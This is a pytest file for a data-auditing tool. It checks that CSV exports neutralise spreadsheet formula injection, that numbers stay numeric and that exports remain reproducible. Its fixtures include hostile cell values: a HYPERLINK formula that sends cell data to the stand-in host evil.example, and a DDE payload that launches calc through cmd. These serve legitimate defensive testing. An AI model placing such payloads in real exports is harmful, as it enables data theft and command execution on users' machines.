"""Issue 12, item 8 (output side): no text cell of any CSV auditor writes starts with
= + - @ tab or CR (a spreadsheet would run it as a formula). Such cells get a leading ';
numbers such as -87.6 stay numbers; the export stays byte-for-byte reproducible and verify
passes; an exported flag log merges back exactly."""
from __future__ import annotations

import csv
import io
import json

import pytest

from auditor.audit.flags import add_flag
from auditor.audit.log_csv import export_csv, import_csv
from auditor.cli import main
from auditor.csvsafe import FORMULA_STARTS, is_formula_like, neutralise, restore
from auditor.store import open_project, transaction

EVIL_ID = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL_TEXTS = [EVIL_ID, "+SUM(A1:A9)", "-2+3", "@cmd", "\t=1", "\r=1", "'=already quoted"]


@pytest.mark.parametrize("value,formula", [
    ("=1+1", True), ("+1+1", True), ("-1+1", True), ("@A1", True), ("\tx", True), ("\rx", True),
    ("-87.6", False), ("+1e5", False), ("-.5", False), ("3", False), ("home", False),
    ("", False), ("-", True), ("V-001", False), (" =1", False),
])
def test_the_predicate(value, formula):
    assert is_formula_like(value) is formula


@pytest.mark.parametrize("value", EVIL_TEXTS + ["plain", "'quoted", "''", "-87.6", "", "'"])
def test_neutralise_is_safe_and_reversible(value):
    out = neutralise(value)
    assert not is_formula_like(out)
    assert restore(out) == value


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(text: str) -> None:
    bad = [c for c in _cells(text) if c[:1] in FORMULA_STARTS and is_formula_like(c)]
    assert not bad, bad


@pytest.fixture
def evil_project(fresh_demo_project):
    """The demo project with a vehicle renamed to a formula (as an older import, or a source
    that slipped past the import check, would leave it), and flags with formula text."""
    conn = open_project(fresh_demo_project, create=False)
    victim = conn.execute("SELECT vehicle_id FROM predictions WHERE split = 'train' "
                          "ORDER BY vehicle_id LIMIT 1").fetchone()[0]
    tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
    with transaction(conn):
        conn.execute("PRAGMA defer_foreign_keys = ON")
        for t in tables:
            cols = [r[1] for r in conn.execute(f'PRAGMA table_info("{t}")')]
            if "vehicle_id" in cols:
                conn.execute(f'UPDATE "{t}" SET vehicle_id = ? WHERE vehicle_id = ?',
                             (EVIL_ID, victim))
    place = conn.execute("SELECT place_id FROM places ORDER BY place_id LIMIT 1").fetchone()[0]
    add_flag(conn, "=cmd|' /C calc'!A0", "place", place, "model_wrong", note="+1 call me")
    add_flag(conn, "@ana", "place", place, "label_wrong", "home", note="-was =evil")
    conn.close()
    return fresh_demo_project


def test_report_predictions_csv_has_no_formula_cells(evil_project, tmp_path, capsys):
    out = tmp_path / "preds.csv"
    assert main(["report", str(evil_project), "--predictions", str(out)]) == 0
    text = out.read_text()
    _assert_no_formula(text)
    assert "'" + EVIL_ID.replace('"', '""') in text        # the id is there, neutralised
    rows = list(csv.DictReader(io.StringIO(text)))
    assert any(float(r["lon"]) < 0 for r in rows)          # negative numbers stay numbers
    assert all(not r["lon"].startswith("'") for r in rows)


def test_flag_csv_is_neutralised_and_merges_back_exactly(evil_project, tmp_path):
    out = tmp_path / "flags.csv"
    conn = open_project(evil_project, create=False)
    try:
        n = export_csv(conn, out)
        text = out.read_text()
        _assert_no_formula(text)
        assert n == 2 and "'=cmd" in text and "'@ana" in text and "'+1 call me" in text
        # importing our own export adds nothing: every value came back as it was stored
        assert import_csv(conn, out) == {"read": 2, "imported": 0, "already_present": 2}
    finally:
        conn.close()
    fresh = tmp_path / "other.db"
    from test_lost_writes import build_project  # a project with places v1:0..5
    build_project(fresh)
    c = open_project(fresh)
    add_flag(c, "=bob", "place", "v1:0", "label_wrong", "work", note="=note")
    export_csv(c, tmp_path / "bob.csv")
    c.close()
    c = open_project(fresh)
    assert import_csv(c, tmp_path / "bob.csv")["imported"] == 0
    assert c.execute("SELECT analyst, note FROM flag_events").fetchall() == [("=bob", "=note")]
    c.close()


def test_training_set_csv_has_no_formula_cells_and_stays_reproducible(evil_project, tmp_path,
                                                                      capsys):
    a, b = tmp_path / "a", tmp_path / "b"
    assert main(["export", str(evil_project), str(a), "--json"]) == 0
    first = json.loads(capsys.readouterr().out)
    text = (a / "training_set.csv").read_text()
    _assert_no_formula(text)
    assert "'" + EVIL_ID.replace('"', '""') in text
    assert main(["export", str(evil_project), str(b), "--json"]) == 0
    second = json.loads(capsys.readouterr().out)
    assert first["files"]["training_set.csv"] == second["files"]["training_set.csv"]
    assert first["rows_sha256"] == second["rows_sha256"]
    assert main(["verify", str(a)]) == 0
    assert "reproduces every hash" in capsys.readouterr().out
    # Parquet keeps the value as stored; its rows hash is the hash of the same safe rendering
    assert main(["export", str(evil_project), str(tmp_path / "pq"), "--format", "parquet",
                 "--json"]) == 0
    pq = json.loads(capsys.readouterr().out)
    assert pq["rows_sha256"] == first["rows_sha256"]
    import pyarrow.parquet as papq
    ids = papq.read_table(tmp_path / "pq" / "training_set.parquet").column("vehicle_id")
    assert EVIL_ID in ids.to_pylist()
